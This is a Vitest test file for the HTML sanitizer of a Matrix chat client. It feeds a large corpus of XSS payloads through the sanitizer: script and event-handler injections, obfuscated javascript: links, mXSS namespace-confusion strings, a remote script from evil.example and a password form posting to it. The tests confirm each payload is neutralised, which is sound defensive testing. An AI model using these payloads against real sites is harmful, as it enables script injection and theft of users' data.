import { JSDOM } from 'jsdom';
import { describe, expect, it } from 'vitest';
import { createHtmlSanitizer } from '../../src/renderer/lib/content/sanitize-html';

const { window } = new JSDOM('');
const sanitizer = createHtmlSanitizer(window as unknown as Window & typeof globalThis);

// What the Matrix spec allows for m.room.message (minus mx-reply), plus our data-mxc.
const allowedAttributes: Record<string, string[]> = {
  font: ['data-mx-bg-color', 'data-mx-color', 'color'],
  span: ['data-mx-bg-color', 'data-mx-color', 'data-mx-spoiler', 'data-mx-maths'],
  a: ['href', 'target', 'rel'],
  img: ['width', 'height', 'alt', 'title', 'data-mxc'],
  ol: ['start'],
  code: ['class'],
  div: ['data-mx-maths'],
};
const allowedTags = new Set([
  ...Object.keys(allowedAttributes),
  'del', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'blockquote', 'p', 'ul', 'sup', 'sub', 'li', 'b', 'i', 'u',
  'strong', 'em', 'strike', 's', 'hr', 'br', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'caption', 'pre',
  'details', 'summary',
]);

/** Parses sanitized output the way the timeline will insert it: into an element. */
function parse(html: string): HTMLDivElement {
  const container = window.document.createElement('div');
  container.innerHTML = html;
  return container;
}

function expectSafe(html: string): HTMLDivElement {
  const container = parse(html);
  for (const element of container.querySelectorAll('*')) {
    expect(element.namespaceURI).toBe('http://www.w3.org/1999/xhtml');
    expect(allowedTags).toContain(element.localName);
    for (const { name } of element.attributes) expect(allowedAttributes[element.localName] ?? []).toContain(name);
  }
  for (const link of container.querySelectorAll('a[href]')) expect(link.getAttribute('href')).toMatch(/^(?:https?|mailto|matrix):/i);
  for (const link of container.querySelectorAll('a')) {
    expect(link.getAttribute('rel')).toBe('noopener noreferrer');
    expect(link.getAttribute('target')).toBe('_blank');
  }
  expect(container.querySelector('[src]')).toBeNull();
  for (const colour of container.querySelectorAll('[color], [data-mx-color], [data-mx-bg-color]')) {
    for (const name of ['color', 'data-mx-color', 'data-mx-bg-color']) {
      if (colour.hasAttribute(name)) expect(colour.getAttribute(name)).toMatch(/^#[0-9a-f]{6}$/i);
    }
  }
  return container;
}

function maxDepth(container: Element): number {
  let deepest = 0;
  for (const element of container.querySelectorAll('*')) {
    let depth = 0;
    for (let node: Element | null = element; node && node !== container; node = node.parentElement) depth++;
    deepest = Math.max(deepest, depth);
  }
  return deepest;
}

// [what it tries, input, visible text that must survive]
const hostileCorpus: [string, string, string?][] = [
  ['script element', '<script>alert(1)</script>hello', 'hello'],
  ['upper-case script with remote src', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>after', 'after'],
  ['image error handler', '<img src=x onerror=alert(1)>'],
  ['image error handler with alt text', '<img src="x" onerror="alert(1)" alt="a picture">', 'a picture'],
  ['image that evaluates its own attributes', '<img src=x:alert(alt) onerror=eval(src) alt=0>'],
  ['svg onload', '<svg onload=alert(1)>'],
  ['script inside svg', '<svg><script>alert(1)</script></svg>'],
  ['svg link to javascript', '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">click</text></a></svg>'],
  ['style inside svg', '<svg><style><img src=x onerror=alert(1)></style></svg>'],
  ['javascript link', '<a href="javascript:alert(1)">click me</a>', 'click me'],
  ['mixed-case javascript link', '<a href="JaVaScRiPt:alert(1)">click me</a>', 'click me'],
  ['decimal entity javascript link', '<a href="&#106;avascript:alert(1)">click me</a>', 'click me'],
  ['hex entity javascript link', '<a href="&#x6A;&#x61;vascript&colon;alert(1)">click me</a>', 'click me'],
  ['whitespace-prefixed javascript link', '<a href="  \t\njavascript:alert(1)">click me</a>', 'click me'],
  ['tab inside the scheme', '<a href="java&#x09;script:alert(1)">click me</a>', 'click me'],
  ['newline inside the scheme', '<a href="java\nscript:alert(1)">click me</a>', 'click me'],
  ['control character before the scheme', '<a href="&#x01;javascript:alert(1)">click me</a>', 'click me'],
  ['data: HTML link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">open</a>', 'open'],
  ['vbscript link', '<a href="vbscript:msgbox(1)">open</a>', 'open'],
  ['file link', '<a href="file:///etc/passwd">open</a>', 'open'],
  ['protocol-relative link', '<a href="//evil.example/x">open</a>', 'open'],
  ['relative link', '<a href="/relative/path">open</a>', 'open'],
  ['link split by a space inside the scheme', '<a href="ht tps://evil.example">open</a>', 'open'],
  ['link with its own target and event handler', '<a href="https://ok.example" target="_self" rel="opener" onclick="alert(1)">ok</a>', 'ok'],
  ['remote image', '<img src="https://evil.example/x.png" alt="tracker">', 'tracker'],
  ['protocol-relative image', '<img src="//evil.example/x.png">'],
  ['data: image', '<img src="data:image/png;base64,iVBORw0KGgo=">'],
  ['mxc image with a query', '<img src="mxc://evil.example/abc?x=https://evil.example">'],
  ['mxc image with path traversal', '<img src="mxc://evil.example/../../x">'],
  ['image srcset', '<img srcset="https://evil.example/x.png 1x" src="mxc://example.org/abc">'],
  ['style element', '<style>body{background:url(https://evil.example/x)}</style>visible', 'visible'],
  ['style attribute', '<p style="background:url(https://evil.example/x)">styled</p>', 'styled'],
  ['iframe', '<iframe src="https://evil.example"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['form posting elsewhere', '<form action="https://evil.example"><input name="password"><button>Send</button></form>', 'Send'],
  ['base element', '<base href="https://evil.example/"><a href="/x">rebased</a>', 'rebased'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['stylesheet link', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['object', '<object data="https://evil.example/x.swf"></object>'],
  ['embed', '<embed src="https://evil.example/x.swf">'],
  ['mathml namespace confusion (mXSS)', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['noscript attribute breakout (mXSS)', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['foreignObject breakout', '<table><td><svg><foreignObject><img src=x onerror=alert(1)>'],
  ['select and style confusion', '<select><style><img src=x onerror=alert(1)>'],
  ['comment hiding markup', '<!--<img src=x onerror=alert(1)>-->after', 'after'],
  ['textarea hiding markup', '<textarea><img src=x onerror=alert(1)></textarea>'],
  ['xmp hiding markup', '<xmp><img src=x onerror=alert(1)></xmp>'],
  ['template content', '<template><script>alert(1)</script><img src=x onerror=alert(1)></template>'],
  ['id, class and event handler', '<div onclick="alert(1)" id="x" class="y">plain</div>', 'plain'],
  ['mouse handler on an allowed tag', '<p onmouseover=alert(1)>hover</p>', 'hover'],
  ['unclosed nested markup', '<div><b><i>unclosed <a href="javascript:alert(1)">link', 'unclosed link'],
  ['split script tags', '<<script>script>alert(1)<</script>/script>'],
  ['video and audio handlers', '<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>'],
  ['body onload', '<body onload=alert(1)><p>in body</p></body>', 'in body'],
  ['details toggle handler', '<details open ontoggle=alert(1)><summary>more</summary>hidden</details>', 'more'],
  ['autofocus input', '<input autofocus onfocus=alert(1)>'],
  ['DOM clobbering by name', '<img name="body"><form name="getElementById"></form><a name="cookie">named</a>', 'named'],
  ['colour attribute with script', '<font color="red" data-mx-color="expression(alert(1))" data-mx-bg-color="#12345g">coloured</font>', 'coloured'],
  ['spec attribute on the wrong tag', '<p data-mx-color="#ff0000" data-mx-maths="x">wrong tag</p><a href="https://ok.example" title="t" width="1">w</a>', 'wrong tag'],
  ['other data attributes', '<span data-foo="1" data-mx-foo="2" aria-label="x">data</span>', 'data'],
  ['reply fallback hiding a script', '<mx-reply><script>alert(1)</script><blockquote>quote</blockquote></mx-reply>reply', 'reply'],
];

describe('createHtmlSanitizer: hostile input', () => {
  it.each(hostileCorpus)('neutralises %s', (_what, input, visibleText) => {
    const container = expectSafe(sanitizer.sanitize(input));
    if (visibleText !== undefined) expect(container.textContent).toContain(visibleText);
  });

  it('leaves none of the dangerous elements in the whole corpus output', () => {
    const output = hostileCorpus.map(([, input]) => sanitizer.sanitize(input)).join('');
    const container = expectSafe(output);
    expect(container.querySelectorAll('script, style, svg, math, iframe, form, input, object, embed, link, meta, base')).toHaveLength(0);
  });

  it('flattens 10,000 nested divs below the depth cap and keeps their text', { timeout: 60_000 }, () => {
    const nested = `${'<div>'.repeat(10_000)}deep <b>inside</b>${'</div>'.repeat(10_000)}`;
    const container = expectSafe(sanitizer.sanitize(nested));
    expect(maxDepth(container)).toBe(100);
    expect(container.textContent).toBe('deep inside');
  });

  it('turns deep markup into text rather than elements', () => {
    const nested = `${'<blockquote>'.repeat(150)}<a href="https://ok.example">link</a>${'</blockquote>'.repeat(150)}`;
    const container = expectSafe(sanitizer.sanitize(nested));
    expect(container.querySelector('a')).toBeNull();
    expect(container.textContent).toBe('link');
  });
});

describe('createHtmlSanitizer: allowed formatting', () => {
  it('keeps the formatting the spec allows', () => {
    const html =
      '<h2>Title</h2><p><b>bold</b> <i>italic</i> <u>under</u> <del>gone</del> <s>struck</s> <sup>1</sup><sub>2</sub></p>' +
      '<blockquote>quoted</blockquote><ul><li>one</li></ul><hr><pre><code>code</code></pre>' +
      '<table><caption>c</caption><thead><tr><th>h</th></tr></thead><tbody><tr><td>d</td></tr></tbody></table>' +
      '<details><summary>s</summary>more</details>';
    expect(sanitizer.sanitize(html)).toBe(html);
  });

  it('keeps the text of unknown tags and HTML special characters', () => {
    const container = expectSafe(sanitizer.sanitize('<p>Tom &amp; Jerry &lt;3 <blink>blinking</blink> <center>centred</center></p>'));
    expect(container.textContent).toBe('Tom & Jerry <3 blinking centred');
  });

  it.each([
    'https://example.org/page?q=1#top',
    'http://example.org/',
    'mailto:someone@example.org',
    'matrix:r/room:example.org',
    'https://matrix.to/#/@alice:example.org',
  ])('keeps a link to %s and marks it to open externally', (href) => {
    const link = parse(sanitizer.sanitize(`<a href="${href}">link</a>`)).querySelector('a');
    expect(link?.getAttribute('href')).toBe(href);
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer');
    expect(link?.getAttribute('target')).toBe('_blank');
  });

  it('removes a disallowed href but keeps the link text', () => {
    expect(sanitizer.sanitize('<a href="javascript:alert(1)">click me</a>')).toBe('<a target="_blank" rel="noopener noreferrer">click me</a>');
  });

  it('moves an mxc image source to data-mxc and keeps its size and alt text', () => {
    const image = parse(sanitizer.sanitize('<img src="mxc://example.org:8448/Ab_c-1" alt="cat" title="Cat" width="64" height="48">')).querySelector('img');
    expect(image?.getAttribute('data-mxc')).toBe('mxc://example.org:8448/Ab_c-1');
    expect(image?.hasAttribute('src')).toBe(false);
    expect([image?.getAttribute('alt'), image?.getAttribute('title'), image?.getAttribute('width'), image?.getAttribute('height')]).toEqual(['cat', 'Cat', '64', '48']);
  });

  it('replaces any other image by its alt text', () => {
    expect(sanitizer.sanitize('<p>see <img src="https://evil.example/x.png" alt="the chart"></p>')).toBe('<p>see the chart</p>');
  });

  it('drops a data-mxc the sender put on an image without an mxc source', () => {
    expect(sanitizer.sanitize('<img data-mxc="mxc://example.org/abc" alt="x">')).toBe('x');
  });

  it('removes reply fallbacks with their content', () => {
    expect(sanitizer.sanitize('<mx-reply><blockquote><a href="https://matrix.to/#/!r:x/$e">In reply to</a> old</blockquote></mx-reply>new')).toBe('new');
  });

  it('keeps #rrggbb colours and drops any other colour value', () => {
    const html = '<font color="#FF0000" data-mx-color="red" data-mx-bg-color="#00ff00">a</font><span data-mx-color="#0000ff" data-mx-bg-color="#fff">b</span>';
    expect(sanitizer.sanitize(html)).toBe('<font color="#FF0000" data-mx-bg-color="#00ff00">a</font><span data-mx-color="#0000ff">b</span>');
  });

  it('keeps spoilers, maths and list start values', () => {
    const html = '<span data-mx-spoiler="plot">hidden</span><div data-mx-maths="x^2">x²</div><ol start="3"><li>three</li></ol>';
    expect(sanitizer.sanitize(html)).toBe(html);
  });

  it('drops a list start that is not a number', () => {
    expect(sanitizer.sanitize('<ol start="x"><li>a</li></ol>')).toBe('<ol><li>a</li></ol>');
  });

  it('keeps only the language class of code', () => {
    expect(sanitizer.sanitize('<code class="evil language-typescript hidden">x</code><code class="evil">y</code><p class="language-js">z</p>')).toBe(
      '<code class="language-typescript">x</code><code>y</code><p>z</p>',
    );
  });

  it('returns an empty string for empty input', () => {
    expect(sanitizer.sanitize('')).toBe('');
  });
});

describe('createHtmlSanitizer: addresses in text become links for the timeline', () => {
  const link = (href: string, text = href) => `<a href="${href}" target="_blank" rel="noopener noreferrer">${text}</a>`;

  it('links the addresses of a plain body and keeps the rest as text', () => {
    expect(sanitizer.displayText('Vorlage: https://bund.example/v?id=7.\nPost an poststelle@bund.de')).toBe(
      `Vorlage: ${link('https://bund.example/v?id=7')}.\nPost an ${link('mailto:poststelle@bund.de', 'poststelle@bund.de')}`,
    );
  });

  it('gives null for a plain body without addresses, so it is shown as text', () => {
    expect(sanitizer.displayText('Besprechung um 10 Uhr, siehe readme.md')).toBeNull();
  });

  it('keeps markup in a plain body as text around the link', () => {
    const container = expectSafe(sanitizer.displayText('<img src=x onerror=alert(1)> https://bund.example/<b>x</b>')!);
    expect(container.querySelectorAll('a')).toHaveLength(1);
    expect(container.textContent).toBe('<img src=x onerror=alert(1)> https://bund.example/<b>x</b>');
  });

  it('links addresses in the text of HTML, but not inside links or code', () => {
    expect(sanitizer.display('<p>Siehe https://bund.example/a</p><a href="https://ok.example">www.bund.de</a><code>https://c.example</code>')).toBe(
      `<p>Siehe ${link('https://bund.example/a')}</p>${link('https://ok.example', 'www.bund.de')}<code>https://c.example</code>`,
    );
  });

  it('keeps the hostile corpus safe when it is shown', () => {
    const corpus = hostileCorpus.map(([, input]) => input).join(' https://bund.example/ ');
    const container = expectSafe(sanitizer.display(corpus));
    expect(container.querySelectorAll('script, style, svg, math, iframe, form, input, object, embed, link, meta, base')).toHaveLength(0);
    expect([...container.querySelectorAll('a[href]')].map((a) => a.getAttribute('href'))).toContain('https://bund.example/');
  });

  it('sends HTML as written: sanitising what Depesche sends makes no links', () => {
    expect(sanitizer.sanitize('<p>Siehe https://bund.example/a</p>')).toBe('<p>Siehe https://bund.example/a</p>');
  });
});
